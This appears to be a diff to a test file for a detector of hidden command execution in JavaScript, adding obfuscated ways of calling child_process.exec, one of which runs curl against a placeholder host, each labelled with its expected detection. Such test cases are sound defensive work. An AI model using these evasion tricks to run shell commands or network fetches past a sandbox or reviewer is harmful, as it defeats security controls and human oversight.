@@ -84,6 +84,8 @@ const evasions: readonly (readonly [string, string])[] = [
   ["Object.values(require('child_process'))[0]('id')", any],
   ["const list = []; list.push(require('child_process')); list[0].exec('id')", any],
   ["setTimeout(require('child_process').exec, 0, 'id')", any],
+  ["['id'].forEach(require('child_process').exec)", shell],
+  ["Promise.resolve('curl https://a.example/x').then(require('child_process').exec)", 'egress GET https://a.example/x'],
   ["for (const m of ['child_process']) require(m).exec('id')", shell],
   ["const { ['ex' + 'ec']: q } = require('child_process'); q('id')", shell],
   ["const key = Math.random() > 2 ? 'fork' : 'exec'; require('child_process')[key]('id')", shell],
